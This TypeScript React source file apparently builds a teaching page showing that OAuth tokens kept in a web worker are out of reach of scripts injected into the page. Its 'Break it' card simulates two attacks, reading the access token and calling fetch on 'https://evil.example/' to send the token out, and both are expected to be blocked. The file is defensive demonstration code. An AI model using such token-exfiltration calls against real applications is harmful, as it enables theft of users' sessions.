import type { OAuthClient } from '@latchkey/core'
import { Button, Group, Text } from '@mantine/core'
import { ZapIcon } from '@primer/octicons-react/ZapIcon'
import { type ReactNode, useState } from 'react'
import { ApiCall } from '../../api/api-call.js'
import { workerCode } from '../../code/session-samples.js'
import { useConnection } from '../../connection/connection-context.js'
import { Experiment } from '../../experiments/experiment.js'
import { useExperiment } from '../../experiments/use-experiment.js'
import { signInByPopup } from '../../experiments/use-experiment-client.js'
import type { Explanation } from '../../faults/explanation.js'
import { workerStory } from '../../story/stories/worker-story.js'
import { Card } from '../../ui/card.js'
import { ErrorAlert, errorTitle } from '../../ui/error-alert.js'
import { FieldList } from '../../ui/field-list.js'
import { Page } from '../../ui/page.js'
import { useFocusOn } from '../../ui/use-focus-on.js'
import { useWorkerClient } from '../../worker/use-worker-client.js'

export function WorkerPage(): ReactNode {
  const { connection } = useConnection()
  const createClient = useWorkerClient()
  const experiment = useExperiment<OAuthClient>()
  const work = async (): Promise<OAuthClient> => {
    const client = createClient()
    await signInByPopup(client)
    return client
  }
  return (
    <Page
      title="Tokens in a worker"
      lead="A script that gets into your page can read what the page can read. With a worker, the page has no token to read: the client, its secrets and its tokens are in another thread."
      specs={['RFC 9700, section 4']}
    >
      <Experiment
        verdict="Recommended"
        advice="It stops the theft of tokens. It does not stop a script from calling your API through the page while the page is open: a Content Security Policy comes first."
        action="Sign in by popup"
        experiment={experiment}
        work={work}
        View={WorkerResult}
        story={workerStory}
        code={workerCode(connection)}
      />
    </Page>
  )
}

function WorkerResult({ result: client }: { readonly result: OAuthClient }): ReactNode {
  const { claims, tokenSet } = client.getSnapshot()
  const fields = [
    { name: 'sub', value: claims?.sub },
    { name: 'access token', value: tokenSet?.accessToken || 'not in this page' },
    { name: 'refresh token', value: tokenSet?.refreshToken ?? 'not in this page' },
    { name: 'expires at', value: tokenSet?.expiresAt && new Date(tokenSet.expiresAt * 1000).toLocaleTimeString() },
  ]
  return (
    <>
      <Text size="sm">What a script of this page can see of the session:</Text>
      <FieldList fields={fields} />
      <ApiCall
        label="Call /api/me through the worker"
        url="/api/me"
        send={(input, init) => client.fetch(input, init)}
        isPrimary
      />
      <Attacks client={client} />
    </>
  )
}

interface Attack extends Explanation {
  readonly label: string
  readonly run: (client: OAuthClient) => Promise<unknown>
}

const attacks: readonly Attack[] = [
  {
    label: 'Steal the access token',
    expected: 'requests through the worker, which adds the token itself',
    received: 'a request for the token',
    rule: 'RFC 9700, section 4',
    withoutCheck: 'A script would send the token to its own server, and use it after the page is closed.',
    run: (client) => client.getAccessToken(),
  },
  {
    label: 'Send the token to another server',
    expected: 'an address of one of the app’s resources',
    received: 'https://evil.example/',
    rule: 'RFC 9700, section 4.9',
    withoutCheck: 'A script would let the worker send the token to an address of its choice.',
    run: (client) => client.fetch('https://evil.example/'),
  },
]

/** What a script in the page would try. */
function Attacks({ client }: { readonly client: OAuthClient }): ReactNode {
  const [failed, setFailed] = useState<{ readonly attack: Attack; readonly error: unknown }>()
  const [running, setRunning] = useState<Attack>()
  const place = useFocusOn(failed)
  const run = (attack: Attack): void => {
    setRunning(attack)
    attack
      .run(client)
      .then(
        () => setFailed(undefined),
        (error: unknown) => setFailed({ attack, error }),
      )
      .finally(() => setRunning(undefined))
  }
  return (
    <Card title="Break it" hint="As a script that got into the page.">
      <Group gap="xs">
        {attacks.map((attack) => (
          <Button
            key={attack.label}
            variant="default"
            leftSection={<ZapIcon />}
            loading={running === attack}
            onClick={() => run(attack)}
          >
            {attack.label}
          </Button>
        ))}
      </Group>
      <div ref={place} tabIndex={-1} className="outcome">
        {failed && <ErrorAlert error={failed.error} title={errorTitle(failed.error)} explanation={failed.attack} />}
      </div>
    </Card>
  )
}
